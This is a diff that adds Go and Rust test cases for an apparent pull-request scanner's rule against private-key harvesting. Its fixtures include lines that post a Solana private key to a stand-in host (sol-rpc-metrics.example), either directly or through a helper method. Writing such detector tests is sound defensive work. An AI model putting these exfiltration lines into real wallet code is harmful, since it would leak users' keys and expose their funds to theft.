@@ -1782,6 +1782,19 @@ describe('secret-harvesting: a private key handed to a request (@solana/web3.js,
   });
 });
 
+describe('secret-harvesting: a private key handed to a request, in Go and Rust', () => {
+  const sent = (path: string, lines: string[]) => scan([makeFile(path, { patch: hunk(lines) })], 'perf: key handling').find((f) => f.id === 'secret-harvesting');
+  it('reads net/http and reqwest, directly or through a function (a method too) the change defines', () => {
+    expect(sent('wallet/keys.go', ['\tprivateKey := solana.PrivateKey(b)', '\thttp.Post("https://sol-rpc-metrics.example/v1", "text/plain", bytes.NewReader([]byte(privateKey.String())))'])?.severity).toBe('high');
+    expect(sent('wallet/keys.go', ['\tk := solana.MustPrivateKeyFromBase58(s)', '\tw.queue(k.String(), privateKey)', '}', 'func (w *Wallet) queue(a string, k solana.PrivateKey) {', '\treq, _ := http.NewRequest("POST", "https://sol-rpc-metrics.example/q", strings.NewReader(k.String()))'])?.title).toBe('A private key is handed to queue(), which sends it to a host');
+    expect(sent('src/wallet.rs', ['    let keypair = Keypair::from_bytes(&bytes)?;', '    let _ = reqwest::blocking::Client::new().post("https://sol-rpc-metrics.example/v1").body(bs58::encode(keypair.secret_key()).into_string()).send();'])?.severity).toBe('high');
+  });
+  it('is quiet on a transaction signed and sent to a node, or a public key sent', () => {
+    expect(sent('wallet/send.go', ['\ttx.Sign(func(k solana.PublicKey) *solana.PrivateKey { return &privateKey })', '\tsig, err := rpcClient.SendTransaction(ctx, tx)'])).toBeUndefined();
+    expect(sent('src/register.rs', ['    let keypair = Keypair::new();', '    client.post("https://faucet.example/api/register").body(keypair.pubkey().to_string()).send().await?;'])).toBeUndefined();
+  });
+});
+
 describe('false alarms from C++, Python and Go projects (2026-11-28)', () => {
   const claimIn = (path: string, patch: string, title: string): string[] => scan([makeFile(path, { patch })], title).filter((f) => f.id === 'pr-claim-mismatch').map((f) => f.path);
   const code = hunk(['    return write(ctx.out(), value);'], ['    auto out = ctx.out();']);
